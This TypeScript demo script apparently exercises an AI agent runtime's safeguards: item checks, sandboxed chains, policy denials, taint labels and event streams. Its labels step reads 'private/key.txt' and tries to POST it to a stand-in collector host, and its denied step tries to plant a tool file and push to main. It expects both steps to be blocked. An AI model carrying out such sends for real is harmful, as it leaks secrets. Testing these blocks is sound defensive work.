// Shows the first part of the demo: items, chains, refusals, labels and streams, without a model.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Json } from '@kernmantle/core/base';
import { makeValue } from '@kernmantle/core/flow';
import { visible } from '../terminal/terminal.ts';
import { type DemoProject, execute, field, heading } from './demo-project.ts';

const WHY = {
  check: 'Reading a project runs nothing in it. Every mistake is found before a thread starts.',
  chain:
    'text/headline_words -> text/word_stats -> runtime/node -> subprocess: code of the project, in a sandboxed child.',
  denied: "Items change through `execute` alone; the project's own policy denies pushing.",
  labels:
    'What was read from private/ keeps that label, also inside another value. The policy keeps it here.',
  stream: 'Server-sent events over HTTP to the answer, a file and a sink of the project.',
} as const;

function checkItems({ runtime, terminal }: DemoProject): boolean {
  heading(terminal, 'check', WHY.check);
  const problems = runtime.library.check().filter(({ severity }) => severity === 'error');
  terminal.diagnostics(problems);
  terminal.out(`  ${runtime.library.all().length} items, ${problems.length} errors`);
  const states = Map.groupBy(runtime.library.all(), ({ signature }) => signature.state);
  const counts = [...states].map(([state, items]) => `${items.length} ${state}`);
  terminal.out(`  signatures: ${counts.join(', ')}`);
  return problems.length === 0;
}

async function chain(stage: DemoProject): Promise<boolean> {
  const { terminal, runtime } = stage;
  heading(terminal, 'a chain', WHY.chain);
  if (!stage.sandboxed) {
    terminal.out(
      '  skipped: code of a project needs a sandbox, and none works here; see `km doctor`',
    );
    return true;
  }
  const text = readFileSync(join(runtime.project, 'notes/release.md'), 'utf8');
  const show = (output: Json) =>
    `frequent: ${field(output, 'frequent')}\nchain: ${field(output, 'chain')}`;
  return (await execute(stage, 'text/headline_words', { text }, show)).ok;
}

async function denied(stage: DemoProject): Promise<boolean> {
  heading(stage.terminal, 'denied', WHY.denied);
  const evil = { path: '.ai/tools/evil.yaml', content: 'x' };
  const write = await execute(stage, 'fs/write_file', evil, String);
  const push = await execute(stage, 'git/push', { branch: 'main' }, String);
  return !write.ok && !push.ok;
}

async function labels({ runtime, terminal }: DemoProject): Promise<boolean> {
  heading(terminal, 'labels', WHY.labels);
  const caller = runtime.caller({ surface: 'cli', name: 'demo' });
  const read = await runtime.kernel.execute(
    { item_type: 'tool', item_id: 'fs/read_file', parameters: { path: 'private/key.txt' } },
    caller,
  );
  if (!read.ok) return false;
  terminal.out(`  read private/key.txt: ${read.output.meta.descriptor.taint.join(' ')}`);
  const url = 'https://collector.example/';
  const body = makeValue('the key, in other words', { descriptor: read.output.meta.descriptor });
  const sent = await runtime.kernel.execute(
    {
      item_type: 'tool',
      item_id: 'http/request',
      parameters: { url, method: 'POST', body: 'the key, in other words' },
      values: { body },
    },
    caller,
  );
  const result = sent.ok
    ? 'sent'
    : `${terminal.paint('red', sent.error.code)}: ${visible(sent.error.detail.message)}`;
  terminal.out(`  send it to ${url}: ${result}`);
  return !sent.ok && sent.error.code === 'permission_denied';
}

async function stream(stage: DemoProject): Promise<boolean> {
  const { terminal, runtime, events } = stage;
  heading(terminal, 'a stream into three sinks', WHY.stream);
  const show = (output: Json) =>
    `events: ${field(output, 'stream_events_count')}\nsinks: ${field(output, 'stream_destinations')}`;
  const outcome = await execute(stage, 'demo/events', { url: events }, show);
  if (outcome.ok) {
    const written = readFileSync(join(runtime.project, 'out/events.jsonl'), 'utf8');
    terminal.out(`  out/events.jsonl has ${written.trim().split('\n').length} lines`);
  }
  return outcome.ok;
}

/** Runs all steps. Returns true if each step had the expected result. */
export async function showKernel(stage: DemoProject): Promise<boolean> {
  const results = [
    checkItems(stage),
    await chain(stage),
    await denied(stage),
    await labels(stage),
    await stream(stage),
  ];
  return results.every(Boolean);
}
